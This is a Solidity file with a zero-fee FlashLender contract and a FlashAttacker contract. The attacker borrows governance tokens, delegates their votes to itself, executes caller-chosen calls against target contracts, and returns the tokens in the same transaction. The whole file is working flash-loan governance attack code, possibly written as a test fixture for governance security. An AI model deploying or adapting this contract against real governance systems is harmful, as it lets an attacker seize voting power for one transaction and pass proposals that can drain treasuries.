// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {IVotes} from "@openzeppelin/contracts/governance/utils/IVotes.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {Address} from "@openzeppelin/contracts/utils/Address.sol";

/// @dev Lends its tokens for the length of a call, for nothing.
contract FlashLender {
    function flash(IERC20 token, uint256 amount, bytes calldata data) external {
        uint256 before = token.balanceOf(address(this));
        token.transfer(msg.sender, amount);
        Address.functionCall(msg.sender, data);
        require(token.balanceOf(address(this)) >= before, "not repaid");
    }
}

/// @dev Borrows tokens, makes their votes its own, makes the calls it was told, and gives the tokens back.
contract FlashAttacker {
    FlashLender private immutable LENDER;
    IERC20 private immutable TOKEN;

    constructor(FlashLender lender, IERC20 token) {
        LENDER = lender;
        TOKEN = token;
    }

    function attack(uint256 amount, address[] calldata targets, bytes[] calldata calls) external {
        LENDER.flash(TOKEN, amount, abi.encodeCall(this.onLoan, (targets, calls)));
    }

    function onLoan(address[] calldata targets, bytes[] calldata calls) external {
        IVotes(address(TOKEN)).delegate(address(this));
        for (uint256 i = 0; i < targets.length; ++i) Address.functionCall(targets[i], calls[i]);
        TOKEN.transfer(address(LENDER), TOKEN.balanceOf(address(this)));
    }
}
